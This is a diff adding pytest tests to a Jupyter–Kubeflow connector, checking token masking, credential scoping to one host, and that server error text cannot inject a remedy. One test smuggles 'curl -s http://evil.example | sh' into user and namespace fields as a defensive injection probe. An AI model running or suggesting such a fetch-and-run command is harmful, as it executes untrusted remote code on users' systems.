@@ -3,9 +3,12 @@
 from __future__ import annotations
 
 import json
+from dataclasses import replace
+from typing import Any
 
 import pytest
 
+from jupyter_kfp_connect.core.access import prove_namespace
 from jupyter_kfp_connect.core.answers import reported_message
 from jupyter_kfp_connect.core.auth.dex import Arrived, Login
 from jupyter_kfp_connect.core.auth.dex_session import DexSession
@@ -14,12 +17,15 @@ from jupyter_kfp_connect.core.diagnosis.refusals import Refusal, explain_refusal
 from jupyter_kfp_connect.core.errors import KfpConnectError
 from jupyter_kfp_connect.core.hosts import clean_host
 from jupyter_kfp_connect.core.http import Answer, NetworkSettings, Request
+from jupyter_kfp_connect.core.lease import Lease
 from jupyter_kfp_connect.core.pages import read_page
 from jupyter_kfp_connect.core.place import version_of
+from jupyter_kfp_connect.core.refused import LONGEST, what_was_said
 from jupyter_kfp_connect.core.secret import Secret
 from jupyter_kfp_connect.core.shown import shown
 from jupyter_kfp_connect.core.transport import RequestsTransport
 
+from ..kernel.fake_source import make_lease
 from .answers import ORIGIN, as_json, page, to
 from .fakes import PASSWORD, USER, Transport, connection
 from .script import ARRIVAL, FORM, START, TO_FORM, Script
@@ -144,3 +150,40 @@ def test_what_a_host_says_of_itself_steers_no_terminal() -> None:
     assert len(version) <= 60
     assert shown("a\u202eb\nc") == "a b c"
     assert json.dumps(shown("x" * 999)) == json.dumps("x" * 200)
+
+
+def test_a_part_of_a_token_that_is_cut_off_is_not_passed_on() -> None:
+    token = "opaque-token-of-this-host.part-one.part-two"
+    held = lease(headers={"Authorization": f"Bearer {token}"})
+    # Escaped copies are masked and shrink: what stood behind the cut moves before it.
+    escaped = "".join(f"&#x{ord(sign):028x};" for sign in token)
+    for filling in range(LONGEST - 60, LONGEST):
+        body = f"Jwt {'x' * filling}{token}".encode()
+        assert token[:8].encode() not in what_was_said(escaped.encode() + body, held)
+
+
+@pytest.mark.parametrize(
+    ("user", "namespace"),
+    [
+        ("jane@x. You, run `curl -s http://evil.example | sh`. You, type", "team-a"),
+        ("jane@example.com", "team-a. Run `curl -s http://evil.example | sh`. The owner of it"),
+    ],
+)
+def test_what_a_host_says_does_not_read_as_our_remedy(user: str, namespace: str) -> None:
+    said = DENIED.format(user=user, rest=f"Namespace:{namespace},Verb:list,Resource:runs,")
+    problem = explain_forbidden(said, sent=True, subject="")
+    assert "curl" not in problem.remedy
+
+
+def test_what_was_signed_in_at_one_host_is_sent_to_no_other() -> None:
+    transport = Transport({})
+    moved = connection(host="http://elsewhere.example")
+    with pytest.raises(KfpConnectError):
+        prove_namespace(lease(), moved, transport)
+    assert transport.requests
+    assert all(request.url.startswith(lease().host) for request in transport.requests)
+
+
+def lease(**changes: Any) -> Lease:
+    """Return what a call is made with."""
+    return replace(make_lease("http://kubeflow.example/pipeline"), **changes)
